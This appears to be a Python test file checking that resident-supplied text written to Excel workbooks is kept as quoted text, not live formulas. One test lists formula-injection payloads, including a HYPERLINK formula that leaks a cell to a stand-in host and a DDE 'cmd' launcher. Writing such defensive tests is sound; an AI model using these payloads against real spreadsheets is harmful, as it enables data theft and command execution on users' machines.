import io

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from zhenwu.lib.cells import as_text, text_row, xml_safe


@given(st.text())
def test_any_text_survives_a_round_trip_through_a_workbook_as_text(text):
    book = Workbook()
    book.active.append(text_row([text]))
    as_text(book.active)
    out = io.BytesIO()
    book.save(out)
    cell = load_workbook(io.BytesIO(out.getvalue())).active["A1"]
    expected = xml_safe(text)
    assert cell.value == (expected or None)
    assert cell.data_type != "f"


def test_formulas_from_residents_are_stored_as_quoted_text():
    book = Workbook()
    attacks = [
        '=HYPERLINK("http://x.example/?leak="&A4,"点击查看")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2",
        "@SUM(A1)",
    ]
    book.active.append(text_row(attacks))
    as_text(book.active)
    out = io.BytesIO()
    book.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.value for c in row] == attacks
    assert all(c.data_type == "s" and c.quotePrefix for c in row)


def test_control_characters_are_dropped_and_ordinary_text_is_untouched():
    assert xml_safe("路灯\x00不亮\x07\x1b") == "路灯不亮"
    assert xml_safe("第一行\n第二行\t（完）") == "第一行\n第二行\t（完）"
